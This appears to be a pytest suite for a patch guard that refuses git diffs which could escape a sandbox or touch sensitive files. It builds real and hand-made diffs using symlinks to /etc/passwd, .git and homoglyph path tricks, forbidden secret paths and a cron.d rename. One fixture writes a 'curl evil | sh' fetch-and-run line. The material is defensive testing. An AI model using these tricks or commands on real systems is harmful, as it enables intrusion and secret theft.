"""The patch guard, on real `git diff` output from repositories made in tmp_path and on hand-made tricks."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox_runner.gitdiff import parse_diff, unquote
from sandbox_runner.patchguard import GuardPolicy, check_patch, patch_paths, path_problems
from sandbox_runner.pathglob import glob_match


def git(repo: Path, *args: str, stdin: str | None = None) -> str:
    return subprocess.run(
        ["git", "-c", "core.quotepath=true", *args],
        cwd=repo,
        input=stdin,
        capture_output=True,
        text=True,
        check=True,
    ).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q")
    git(root, "config", "user.email", "t@example.com")
    git(root, "config", "user.name", "t")
    (root / "app.py").write_text("def add(a, b):\n    return a - b\n")
    (root / ".env").write_text("A=1\n")
    (root / "run.sh").write_text("echo hi\n")
    (root / "docs").mkdir()
    (root / "docs" / "index.md").write_text("# docs\n")
    git(root, "add", ".")
    git(root, "commit", "-qm", "init")
    return root


def staged_diff(repo: Path, *extra: str) -> str:
    git(repo, "add", "-A")
    return git(repo, "diff", "--cached", "-M", *extra)


def applies(repo: Path, diff: str) -> bool:
    git(repo, "reset", "-q", "--hard")
    git(repo, "clean", "-qfdx")
    check = subprocess.run(
        ["git", "apply", "--check", "-"], cwd=repo, input=diff, text=True, capture_output=True
    )
    return check.returncode == 0


# --- glob semantics ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        (".github/workflows/**", ".github/workflows/ci.yml", True),
        (".github/workflows/**", ".github/workflows/sub/x.yml", True),
        (".github/workflows/**", ".github/workflowsx/ci.yml", False),
        (".github/workflows/**", "a/.github/workflows/ci.yml", False),  # anchored: has a slash
        ("**/secrets/**", "secrets/k", True),
        ("**/secrets/**", "a/b/secrets/c/d", True),
        ("**/secrets/**", "a/secretsx/c", False),
        ("*.pem", "cert.pem", True),
        ("*.pem", "deep/dir/cert.pem", True),  # no slash: any depth
        ("*.pem", "cert.pem.txt", False),
        (".env", "sub/.env", True),
        (".env.*", ".env.local", True),
        (".env.*", ".envrc", False),
        ("id_rsa*", "home/.ssh/id_rsa.pub", True),
        ("src/*.py", "src/a.py", True),
        ("src/*.py", "src/pkg/a.py", False),  # `*` never crosses a slash
        ("src/**/*.py", "src/a.py", True),  # `**` is zero or more segments
        ("src/**/*.py", "src/x/y/a.py", True),
        ("src/**/test_*.py", "src/x/y/helper.py", False),
        ("vendor", "vendor/lib/a.py", True),  # a matched directory covers what is under it
        ("/vendor", "vendor/a", True),
        ("docs/", "docs/index.md", True),
        ("doc?/a.md", "docs/a.md", True),
        ("doc?/a.md", "do/a.md", False),
        ("[st]rc/a", "trc/a", True),
        ("**", "anything/at/all", True),
        ("a/**/b/**/c", "a/b/c", True),
        ("a/**/b/**/c", "a/x/b/y/z/c", True),
        ("a/**/b/**/c", "a/x/y/z/c", False),
        ("", "a", False),
    ],
)
def test_glob_match(pattern: str, path: str, expected: bool) -> None:
    assert glob_match(pattern, path) is expected


def test_glob_casefold_is_opt_in() -> None:
    assert not glob_match(".github/workflows/**", ".GitHub/Workflows/ci.yml")
    assert glob_match(".github/workflows/**", ".GitHub/Workflows/ci.yml", casefold=True)


def test_glob_many_double_stars_stays_linear() -> None:
    pattern = "/".join(["**", "a"] * 30) + "/z"
    assert not glob_match(pattern, "/".join(["a"] * 200))


# --- path rules ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("", "empty path"),
        ("../etc/passwd", "parent directory"),
        ("src/../../x", "parent directory"),
        ("/etc/passwd", "absolute path"),
        ("C:/Windows/x", "absolute path"),
        ("src\\..\\x", "backslash"),
        ("a//b", "not normalised"),
        ("./a", "not normalised"),
        ("a/b/", "not normalised"),
        ("a\x00b", "control character"),
        ("a\nb", "control character"),
        ("a\x1b[2Jb", "control character"),
        ("a\u0085b", "control character"),
        ("a\udcffb", "invalid UTF-8"),
        (".git/config", "git directory"),
        ("sub/.git/hooks/pre-commit", "git directory"),
        (".GIT/config", "git directory"),
        (".Git/hooks/x", "git directory"),
        (".git./config", "git directory"),  # NTFS drops trailing dots
        (".git /config", "git directory"),  # and trailing spaces
        ("GIT~1/config", "git directory"),  # the 8.3 short name
        ("\uff0egit/config", "git directory"),  # fullwidth full stop
        (".\uff47\uff49\uff54/config", "git directory"),  # fullwidth letters
        (".\u0261it/config", "git directory"),  # Latin script g
        (".g\u0456t/config", "git directory"),  # Cyrillic i
        (".git::$INDEX_ALLOCATION/config", "git directory"),  # an NTFS stream name
        (".g\u200cit/config", "invisible or bidi"),  # HFS+ ignores zero-width joiners
        ("src/\u202etxt.py", "invisible or bidi"),
        ("a\ufeffb", "invisible or bidi"),
    ],
)
def test_path_problems(path: str, rule: str) -> None:
    problems = path_problems(path)
    assert len(problems) == 1
    assert rule in problems[0]


@pytest.mark.parametrize(
    "path", ["app.py", "src/pkg/mod.py", ".gitignore", ".github/ISSUE_TEMPLATE.md", "é.py", "a b.py"]
)
def test_ordinary_paths_pass(path: str) -> None:
    assert path_problems(path) == []


# --- real git diffs ------------------------------------------------------------------------------


def edit_app(repo: Path) -> None:
    (repo / "app.py").write_text("def add(a, b):\n    return a + b\n")


def add_module(repo: Path) -> None:
    (repo / "pkg").mkdir()
    (repo / "pkg" / "new.py").write_text("X = 1\n")


def delete_docs(repo: Path) -> None:
    (repo / "docs" / "index.md").unlink()


def rename_plain(repo: Path) -> None:
    git(repo, "mv", "app.py", "core.py")


def odd_names(repo: Path) -> None:
    (repo / "a b.py").write_text("x = 1\n")
    (repo / "é.py").write_text("y = 2\n")


@pytest.mark.parametrize("change", [edit_app, add_module, delete_docs, rename_plain, odd_names])
def test_ordinary_git_diffs_pass_and_apply(repo: Path, change: Callable[[Path], None]) -> None:
    change(repo)
    diff = staged_diff(repo)
    assert check_patch(diff, repo_dir=str(repo)) == []
    assert applies(repo, diff)


def test_paths_of_real_diffs(repo: Path) -> None:
    rename_plain(repo)
    odd_names(repo)
    (repo / "core.py").write_text("changed\n")
    assert patch_paths(staged_diff(repo)) == ["a b.py", "app.py", "core.py", "é.py"]


def test_format_patch_with_message_and_signature_passes(repo: Path) -> None:
    edit_app(repo)
    git(repo, "commit", "-qam", "Fix add\n\n--- not a header\ndiff body text")
    patch = git(repo, "format-patch", "-1", "--stdout")
    assert patch.rstrip().endswith(tuple("0123456789"))  # the `-- ` signature with git's version
    assert check_patch(patch) == []
    assert patch_paths(patch) == ["app.py"]


def symlink_out(repo: Path) -> None:
    os.symlink("/etc/passwd", repo / "link")


def symlink_retarget(repo: Path) -> None:
    os.symlink("app.py", repo / "link")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "link")
    (repo / "link").unlink()
    os.symlink("/etc/shadow", repo / "link")


def file_to_symlink(repo: Path) -> None:
    (repo / "app.py").unlink()
    os.symlink("/etc/passwd", repo / "app.py")


def chmod_only(repo: Path) -> None:
    (repo / "run.sh").chmod(0o755)


def chmod_and_edit(repo: Path) -> None:
    (repo / "run.sh").write_text("curl evil | sh\n")
    (repo / "run.sh").chmod(0o755)


def new_executable(repo: Path) -> None:
    (repo / "hook.sh").write_text("echo\n")
    (repo / "hook.sh").chmod(0o755)


def binary_new(repo: Path) -> None:
    (repo / "blob.bin").write_bytes(b"\x00\x01\x02" * 100)


def submodule(repo: Path) -> None:
    inner = repo / "vendored"
    inner.mkdir()
    git(inner, "init", "-q")
    git(
        inner,
        "-c",
        "user.email=t@example.com",
        "-c",
        "user.name=t",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "i",
    )


def workflow(repo: Path) -> None:
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / ".github" / "workflows" / "ci.yml").write_text("on: push\n")


def composite_action(repo: Path) -> None:
    (repo / ".github" / "actions" / "setup").mkdir(parents=True)
    (repo / ".github" / "actions" / "setup" / "action.yml").write_text("runs: {}\n")


def rename_into_secrets(repo: Path) -> None:
    (repo / "config").mkdir()
    (repo / "config" / "secrets").mkdir()
    git(repo, "mv", "app.py", "config/secrets/app.py")


def rename_env_away(repo: Path) -> None:
    git(repo, "mv", ".env", "env.txt")


def copy_env(repo: Path) -> None:
    (repo / "env.txt").write_text((repo / ".env").read_text())


def private_key(repo: Path) -> None:
    (repo / "deploy").mkdir()
    (repo / "deploy" / "server.pem").write_text("-----BEGIN X-----\n")


def npmrc(repo: Path) -> None:
    (repo / "web").mkdir()
    (repo / "web" / ".npmrc").write_text("//registry/:_authToken=x\n")


@pytest.mark.parametrize(
    ("change", "extra", "expected"),
    [
        (symlink_out, (), "symlink change: link (mode 120000)"),
        (symlink_retarget, (), "symlink change: link (mode 120000)"),
        (file_to_symlink, (), "symlink change: app.py (mode 120000)"),
        (chmod_only, (), "mode-only change: run.sh (100644 -> 100755)"),
        (chmod_and_edit, (), "mode change: run.sh (100644 -> 100755)"),
        (new_executable, (), "executable new file: hook.sh (mode 100755)"),
        (binary_new, (), "binary patch: blob.bin"),
        (binary_new, ("--binary",), "binary patch: blob.bin"),
        (submodule, (), "submodule change: vendored (mode 160000)"),
        (workflow, (), "forbidden path: .github/workflows/ci.yml (matches .github/workflows/**)"),
        (
            composite_action,
            (),
            "forbidden path: .github/actions/setup/action.yml (matches .github/actions/**)",
        ),
        (rename_into_secrets, (), "forbidden path: config/secrets/app.py (matches **/secrets/**)"),
        (rename_env_away, (), "forbidden path: .env (matches .env)"),
        (copy_env, ("-C", "--find-copies-harder"), "forbidden path: .env (matches .env)"),
        (private_key, (), "forbidden path: deploy/server.pem (matches *.pem)"),
        (npmrc, (), "forbidden path: web/.npmrc (matches .npmrc)"),
    ],
)
def test_real_git_tricks_are_refused(
    repo: Path, change: Callable[[Path], None], extra: tuple[str, ...], expected: str
) -> None:
    change(repo)
    diff = staged_diff(repo, *extra)
    assert expected in check_patch(diff)


def test_copy_is_seen_on_both_paths(repo: Path) -> None:
    copy_env(repo)
    diff = staged_diff(repo, "-C", "--find-copies-harder")
    assert "copy from .env" in diff
    assert patch_paths(diff) == [".env", "env.txt"]


def test_write_through_a_symlinked_directory_is_refused(repo: Path, tmp_path: Path) -> None:
    (repo / "docs" / "index.md").write_text("# changed\n")
    diff = staged_diff(repo)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "index.md").write_text("# docs\n")
    git(repo, "rm", "-rqf", "docs")
    os.symlink(outside, repo / "docs")  # the checkout the sandbox got has docs -> outside
    assert check_patch(diff) == []  # the text alone is fine: only the tree shows the trick
    assert check_patch(diff, repo_dir=str(repo)) == [
        "symlink in path: docs/index.md (docs is a symbolic link)"
    ]


def test_write_to_a_symlinked_file_is_refused(repo: Path, tmp_path: Path) -> None:
    edit_app(repo)
    diff = staged_diff(repo)
    (repo / "app.py").unlink()
    os.symlink(tmp_path / "elsewhere.py", repo / "app.py")
    assert check_patch(diff, repo_dir=str(repo)) == ["symlink in path: app.py (app.py is a symbolic link)"]


def test_repo_dir_reached_through_a_symlink_is_fine(repo: Path, tmp_path: Path) -> None:
    os.symlink(repo, tmp_path / "alias")
    edit_app(repo)
    assert check_patch(staged_diff(repo), repo_dir=str(tmp_path / "alias")) == []


# --- hand-made tricks ----------------------------------------------------------------------------

ONE_HUNK = "@@ -1 +1 @@\n-a\n+b\n"


def modify(old: str, new: str | None = None) -> str:
    new = old if new is None else new
    return f"diff --git a/{old} b/{new}\n--- a/{old}\n+++ b/{new}\n{ONE_HUNK}"


@pytest.mark.parametrize(
    ("diff", "expected"),
    [
        (modify("../../etc/passwd"), "parent directory in path: ../../etc/passwd"),
        ("--- a/x\n+++ b/../x\n" + ONE_HUNK, "parent directory in path: ../x"),
        ("--- /etc/passwd\n+++ /etc/passwd\n" + ONE_HUNK, "path without the a/ prefix"),
        (modify(".git/hooks/pre-commit"), "git directory in path: .git/hooks/pre-commit"),
        (modify(".GIT/config"), "git directory in path: .GIT/config"),
        (modify("sub/.git/config"), "git directory in path: sub/.git/config"),
        (modify("a\\b.py"), "backslash in path: a\\b.py"),
        (
            'diff --git "a/x\\033[1m" "b/x\\033[1m"\n--- "a/x\\033[1m"\n+++ "b/x\\033[1m"\n' + ONE_HUNK,
            "control character",
        ),
        (
            'diff --git "a/x\\377" "b/x\\377"\n--- "a/x\\377"\n+++ "b/x\\377"\n' + ONE_HUNK,
            "invalid UTF-8 in path",
        ),
        (
            "diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to /etc/cron.d/x\n",
            "absolute path: /etc/cron.d/x",
        ),
        (
            "diff --git a/x b/x\nnew file mode 120000\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+/etc\n",
            "symlink change",
        ),
        ("diff --git a/x b/x\nold mode 100644\nnew mode 100755\n", "mode-only change: x (100644 -> 100755)"),
        ("diff --git a/d b/d\nnew file mode 040000\n", "unusual file mode: d (040000)"),
        ("diff --git a/x b/x\nindex 1..2\nBinary files a/x and b/x differ\n", "binary patch: x"),
        ("diff --git a/x b/x\nGIT binary patch\nliteral 3\nKcmZQzWMT8^00aO4\n\n", "binary patch: x"),
        (
            modify(".github/workflows/ci.yml"),
            "forbidden path: .github/workflows/ci.yml (matches .github/workflows/**)",
        ),
        (
            modify(".GitHub/Workflows/ci.yml"),
            "forbidden path: .GitHub/Workflows/ci.yml (matches .github/workflows/**)",
        ),
        (modify("app.py", ".github/workflows/x.yml"), "forbidden path: .github/workflows/x.yml"),
    ],
)
def test_hand_made_tricks_are_refused(diff: str, expected: str) -> None:
    assert any(expected in p for p in check_patch(diff)), check_patch(diff)


def test_a_second_patch_hidden_after_the_signature_is_checked() -> None:
    diff = (
        modify("app.py")
        + "-- \n2.39.5\n\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
        + ONE_HUNK
    )
    assert check_patch(diff) == ["forbidden path: .github/workflows/ci.yml (matches .github/workflows/**)"]


# --- malformed text and limits -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("diff", "expected"),
    [
        ("", "empty patch"),
        ("   \n", "empty patch"),
        ("I fixed it by changing add().\n", "malformed diff: no file headers"),
        ("@@ -1 +1 @@\n-a\n+b\n", "a hunk before any file header"),
        ("--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-a\n+b\n", "do not add up"),  # shorter than promised
        ("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n+c\n-d\n", "more lines than its @@ header"),
        ("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n-a2\n+b\n", "do not add up"),
        ("--- a/x\n+++ b/x\n@@ -one +1 @@\n-a\n+b\n", "a hunk header that cannot be read"),
        ("diff --git a/x b/x\n@@ -1 +1 @@\n-a\n+b\n", "hunks without ---/+++ file headers"),
        ("diff --git a/x b/x\x00\n--- a/x\n+++ b/x\n" + ONE_HUNK, "NUL byte in patch"),
        ("diff --git a/x c/x\n--- a/x\n+++ c/x\n" + ONE_HUNK, "path without the b/ prefix"),
        (
            "--- a/.env 2024-01-01 00:00:00.000000000 +0000\n+++ b/.env 2024-01-02 00:00:00.000000000 +0000\n"
            + ONE_HUNK,
            "a name with a space and no tab after it",
        ),
    ],
)
def test_malformed_diffs_are_refused(diff: str, expected: str) -> None:
    assert any(expected in p for p in check_patch(diff)), check_patch(diff)


def test_hunk_details_git_accepts_are_accepted() -> None:
    # an empty line as blank context, and "\ No newline" markers between and after the lines
    no_newline = "\\ No newline at end of file\n"
    diff = f"--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n a\n\n-b\n{no_newline}+c\n{no_newline}"
    assert check_patch(diff) == []
    assert parse_diff(diff).files[0].added == ["c"]


def test_limits() -> None:
    many = "".join(modify(f"f{i}.py") for i in range(31))
    assert check_patch(many) == ["too many files: 31 (limit 30)"]
    long = "--- a/x\n+++ b/x\n@@ -0,0 +1,2001 @@\n" + "+x\n" * 2001
    assert check_patch(long) == ["too many changed lines: 2001 (limit 2000)"]
    assert check_patch(long, policy=GuardPolicy(max_changed_lines=5000)) == []
    assert check_patch("x" * 200_001) == ["patch too large: 200001 bytes (limit 200000)"]
    assert check_patch("é" * 100_001) == ["patch too large: 200002 bytes (limit 200000)"]


def test_allowed_and_forbidden_from_the_config() -> None:
    policy = GuardPolicy(forbidden=("migrations/**",), allowed=("src/**", "tests/**"))
    assert check_patch(modify("src/a.py"), policy=policy) == []
    assert check_patch(modify("setup.py"), policy=policy) == [
        "path outside the allowed paths: setup.py (allowed: src/**, tests/**)"
    ]
    assert check_patch(modify("src/a.py", "migrations/0002.py"), policy=policy) == [
        "forbidden path: migrations/0002.py (matches migrations/**)"
    ]
    # a repository's own forbidden list replaces the default one only if it says so
    assert check_patch(modify(".github/workflows/ci.yml"), policy=policy) == [
        "path outside the allowed paths: .github/workflows/ci.yml (allowed: src/**, tests/**)"
    ]


def test_unquote() -> None:
    assert unquote('"a/\\303\\251.py"') == "a/é.py"
    assert unquote('"a\\tb\\"c\\\\"') == 'a\tb"c\\'
    assert unquote("plain") == "plain"


_PIECES = [
    *'ab/.\\"@-+ \n\t\x00é',
    "diff --git ",
    "--- a/",
    "+++ b/",
    "@@ -1 +1 @@\n",
    "rename to ",
    "old mode 100644\n",
]


@given(st.lists(st.sampled_from(_PIECES), max_size=120).map("".join))
def test_any_text_gets_reasons_never_an_exception(text: str) -> None:
    problems = check_patch(text)
    assert isinstance(problems, list)
    patch_paths(text)
